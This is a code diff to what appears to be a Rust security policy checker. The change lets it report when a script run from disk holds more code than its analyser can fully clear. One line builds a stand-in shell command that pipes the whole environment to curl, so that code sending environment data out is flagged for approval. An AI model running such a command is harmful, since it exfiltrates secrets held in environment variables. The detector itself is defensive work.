@@ -224,7 +224,10 @@ impl Policy<'_> {
     /// an extension) is read in the runner's language, or its `#!` line's.
     /// `ran` says how: a script's own path stands for `$0` only when it is executed, and for
     /// `${BASH_SOURCE[0]}` only where bash runs it.
-    pub fn scripts_on_disk(file: &str, text: &str, runner: &str, ran: Ran) -> Vec<String> {
+    /// The second value says the file's code does more than ana judges of one file (more
+    /// commands and file effects than it keeps): the rest cannot be cleared.
+    pub fn scripts_on_disk(file: &str, text: &str, runner: &str, ran: Ran) -> (Vec<String>, bool) {
+        let mut too_big = false;
         let scripts = if file.starts_with("git alias ") {
             vec![text.to_owned()]
         } else {
@@ -257,6 +260,7 @@ impl Policy<'_> {
             // serialized and sent is not, and stands as the shell line that does the same.
             if let Some((code, lang)) = t.code {
                 let found = content::scan_code(&code, lang);
+                too_big = found.facts & fact::TOO_BIG != 0;
                 scripts.extend(found.lines);
                 if found.sends_whole_env {
                     scripts.push("env | curl -s --data-binary @- -- 'https://(where the code sends it)'".to_owned());
@@ -264,7 +268,7 @@ impl Policy<'_> {
             }
             scripts
         };
-        scripts.into_iter().filter(|s| !s.trim().is_empty()).collect()
+        (scripts.into_iter().filter(|s| !s.trim().is_empty()).collect(), too_big)
     }
 
     /// What a file a command runs from disk calls for (see `crate::ondisk`): approval, naming the
